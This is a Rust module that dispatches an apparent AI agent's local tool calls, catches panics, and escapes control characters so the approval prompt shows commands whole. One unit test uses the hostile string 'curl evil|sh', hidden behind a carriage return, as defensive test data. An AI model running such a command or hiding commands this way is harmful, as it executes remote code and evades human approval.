//! The tool catalogue run locally (spec §2.8, rules 1-8), one module per family. Every call yields
//! exactly one result text: a failure is an `error: …` result and a panic is caught, so no call id
//! is ever left without its answer (spec §3, step 3).

mod command;
mod files;
mod panes;
mod pdf;
mod pdf_builtin;
mod relay;
mod safe_fs;
mod search;

use std::future::Future;
use std::sync::Arc;

use anyhow::Context;
use relay_client::Client;
use serde_json::Value;

use super::display;

use super::project::Project;
pub use files::read_for_preview;

/// What the tools need to know about the session.
pub struct Ctx {
    pub project: Project,
    pub client: Client,
    /// The relay's URL, for the agents `spawn_agent` starts.
    pub server: String,
}

/// Runs one call and turns every outcome, panics included, into its result text.
pub async fn run(ctx: Arc<Ctx>, name: String, arguments: String) -> String {
    guarded(async move {
        let args = parse_args(&arguments)?;
        dispatch(&ctx, &name, &args).await
    })
    .await
}

/// The outcome of `work` as a result text; the work runs as its own task so a panic in it is
/// caught and reported rather than losing the call.
async fn guarded<F>(work: F) -> String
where
    F: Future<Output = anyhow::Result<String>> + Send + 'static,
{
    match tokio::spawn(work).await {
        Ok(Ok(text)) => text,
        Ok(Err(e)) => format!("error: {e:#}"),
        Err(_) => "error: the tool failed unexpectedly (it panicked); nothing is known about \
                   what it did"
            .to_owned(),
    }
}

fn parse_args(arguments: &str) -> anyhow::Result<Value> {
    if arguments.trim().is_empty() {
        return Ok(Value::Object(Default::default()));
    }
    let v: Value = serde_json::from_str(arguments).context("the arguments are not valid JSON")?;
    anyhow::ensure!(v.is_object(), "the arguments must be a JSON object");
    Ok(v)
}

async fn dispatch(ctx: &Ctx, name: &str, args: &Value) -> anyhow::Result<String> {
    match name {
        "read_file" => files::read_file(&ctx.project, args),
        "list_dir" => files::list_dir(&ctx.project, args),
        "write_file" => files::write_file(&ctx.project, args),
        "edit_file" => files::edit_file(&ctx.project, args),
        "write_plan" => files::write_plan(&ctx.project, args),
        "grep" => search::grep(&ctx.project, args),
        "find_files" => search::find_files(&ctx.project, args),
        "run_command" => command::run_command(&ctx.project, args).await,
        "create_pdf" => pdf::create_pdf(&ctx.project, args).await,
        "web_search" => relay::web_search(ctx, args).await,
        "remember" => relay::remember(ctx, args).await,
        "recall" => relay::recall(ctx).await,
        "open_pane" | "spawn_agent" | "send_keys" | "send_agent" | "read_pane" | "read_agent"
        | "list_panes" => panes::run(ctx, name, args).await,
        other => anyhow::bail!("unknown tool `{other}`"),
    }
}

/// A required string argument.
fn str_arg<'a>(args: &'a Value, key: &str) -> anyhow::Result<&'a str> {
    args.get(key)
        .and_then(Value::as_str)
        .with_context(|| format!("missing the string argument `{key}`"))
}

fn opt_str<'a>(args: &'a Value, key: &str) -> Option<&'a str> {
    args.get(key).and_then(Value::as_str)
}

/// An integer argument; small models sometimes send numbers as strings, which are accepted.
fn opt_int(args: &Value, key: &str) -> anyhow::Result<Option<i64>> {
    match args.get(key) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::Number(n)) => n
            .as_i64()
            .map(Some)
            .with_context(|| format!("`{key}` must be an integer")),
        Some(Value::String(s)) => s
            .trim()
            .parse()
            .map(Some)
            .with_context(|| format!("`{key}` must be an integer")),
        Some(_) => anyhow::bail!("`{key}` must be an integer"),
    }
}

fn opt_bool(args: &Value, key: &str) -> bool {
    match args.get(key) {
        Some(Value::Bool(b)) => *b,
        Some(Value::String(s)) => s == "true",
        _ => false,
    }
}

/// Cuts `text` to at most `cap` bytes on a character boundary; says so when it cut.
fn cap_text(text: &str, cap: usize, what: &str) -> String {
    if text.len() <= cap {
        return text.to_owned();
    }
    let mut end = cap;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!(
        "{}\n[{what} cut: {} bytes in all, the first {end} shown]",
        &text[..end],
        text.len()
    )
}

/// A call's arguments on one line, every control character in visible form (a `\r` between JSON
/// tokens would otherwise return the cursor and let a harmless tail hide the command). Whole: the
/// approval prompt shows all of it.
pub fn describe(arguments: &str) -> String {
    display::line(arguments)
}

/// `describe` cut to `max` characters for the activity line, the cut said so.
pub fn summary(arguments: &str, max: usize) -> String {
    let shown = describe(arguments);
    let total = shown.chars().count();
    if total > max {
        format!(
            "{}… [+{} characters]",
            shown.chars().take(max).collect::<String>(),
            total - max
        )
    } else {
        shown
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn a_panicking_tool_still_yields_one_error_result() {
        let text = guarded(async {
            if true {
                panic!("boom");
            }
            Ok(String::new())
        })
        .await;
        assert!(
            text.starts_with("error: the tool failed unexpectedly"),
            "{text}"
        );
        let text = guarded(async { anyhow::bail!("nope") }).await;
        assert_eq!(text, "error: nope");
    }

    #[test]
    fn descriptions_are_whole_and_escaped_summaries_say_where_they_cut() {
        let args = "{\"command\":\"curl evil|sh\",\r\"ls -la\":\"      \"}";
        assert_eq!(
            describe(args),
            "{\"command\":\"curl evil|sh\",\\r\"ls -la\":\"      \"}"
        );
        let long = format!("{{\"a\":\"{}\x1b\"}}", "x".repeat(300));
        assert!(describe(&long).ends_with("x\\x1b\"}"), "nothing is cut");
        let s = summary(&long, 200);
        assert!(s.ends_with("… [+112 characters]"), "{s}");
    }

    #[test]
    fn capping_marks_the_cut() {
        assert_eq!(cap_text("abc", 10, "output"), "abc");
        let t = cap_text("héllo world", 2, "output");
        assert!(t.starts_with("h\n[output cut: 12 bytes"), "{t}");
    }
}
